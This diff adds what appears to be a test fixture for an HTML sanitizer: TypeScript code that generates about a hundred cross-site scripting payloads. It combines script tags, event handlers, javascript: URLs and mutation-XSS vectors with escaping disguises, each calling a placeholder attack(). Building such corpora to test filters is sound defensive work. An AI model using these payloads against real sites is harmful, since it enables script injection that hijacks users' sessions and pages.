@@ -1,0 +1,78 @@
+/**
+ * Some hundred ways in which markup has been smuggled past a filter. Every one of them runs `attack()` where it is obeyed. They are
+ * combined from what is executed, where it stands, and how it is disguised.
+ */
+const CALLS = ['attack()', '&#97;ttack``']
+
+const TAGS = (call: string) => [
+  `<script>${call}</script>`,
+  `<ScRiPt>${call}</sCrIpT>`,
+  `<script src="data:text/javascript,${call}"></script>`,
+  `<img src=x onerror="${call}">`,
+  `<img/src=x/onerror=${call}>`,
+  `<IMG SRC=x OnErRoR="${call}">`,
+  `<svg onload="${call}">`,
+  `<svg><script>${call}</script></svg>`,
+  `<svg><animate onbegin="${call}" attributeName=x dur=1s>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${call}>">`,
+  `<iframe src="javascript:${call}"></iframe>`,
+  `<iframe srcdoc="<script>${call}</script>"></iframe>`,
+  `<object data="javascript:${call}"></object>`,
+  `<embed src="javascript:${call}">`,
+  `<body onload="${call}">`,
+  `<details open ontoggle="${call}">x</details>`,
+  `<video><source onerror="${call}"></video>`,
+  `<audio src=x onerror="${call}"></audio>`,
+  `<input autofocus onfocus="${call}">`,
+  `<select autofocus onfocus="${call}"></select>`,
+  `<form action="javascript:${call}"><button>x</button></form>`,
+  `<button formaction="javascript:${call}">x</button>`,
+  `<link rel=stylesheet href="javascript:${call}">`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
+  `<base href="javascript:${call}//">`,
+  `<style>@import 'javascript:${call}';</style>`,
+  `<template><img src=x onerror="${call}"></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
+  `<marquee onstart="${call}">x</marquee>`,
+  `<a href="javascript:${call}">x</a>`,
+  `<a href="JaVaScRiPt:${call}">x</a>`,
+  `<a href=" \u0001javascript:${call}">x</a>`,
+  `<a href="java\tscript:${call}">x</a>`,
+  `<a href="&#106;avascript:${call}">x</a>`,
+  `<a href="data:text/html,<script>${call}</script>">x</a>`,
+  `<a href="vbscript:${call}">x</a>`,
+  `<a onclick="${call}" href="/x">x</a>`,
+  `<a href="/x" style="background:url(javascript:${call})">x</a>`,
+  `<p onmouseover="${call}">x</p>`,
+  `<em onpointerover="${call}">x</em>`,
+  `<font color="red" onclick="${call}">x</font>`,
+  `<q cite="javascript:${call}" onclick="${call}">x</q>`,
+  `<mark id="main" name="body" onclick="${call}">x</mark>`,
+  `<div style="position:fixed;inset:0" onclick="${call}">x</div>`,
+  `<b><script>${call}</b></script>`,
+  `<em><svg><p><style><g title="</style><img src=x onerror=${call}>">`,
+]
+
+/** What stands in for the signs of markup, and is taken for them by whoever unescapes once too often. */
+const DISGUISES: readonly ((markup: string) => string)[] = [
+  (markup) => markup,
+  (markup) => escaped(markup, '&lt;', '&gt;'),
+  (markup) => escaped(markup, '&amp;lt;', '&amp;gt;'),
+  (markup) => escaped(markup, '&#60;', '&#62;'),
+  (markup) => escaped(markup, '&amp;#x3c;', '&amp;#x3e;'),
+  (markup) => `<em>${escaped(markup, '&LT;', '&GT;')}</em>`,
+  (markup) => `&lt;em>${markup}`,
+  (markup) => markup.replace('<', '<<'),
+]
+
+const escaped = (markup: string, open: string, close: string) =>
+  markup.replaceAll('<', open).replaceAll('>', close)
+
+export const payloads: readonly string[] = CALLS.flatMap((call, row) =>
+  TAGS(call).flatMap((markup, column) =>
+    DISGUISES
+      // every call and tag with some of the disguises; together they cover all pairs
+      .filter((_, place) => (place + row + column) % 2 === 0)
+      .map((disguise) => disguise(markup)),
+  ),
+)
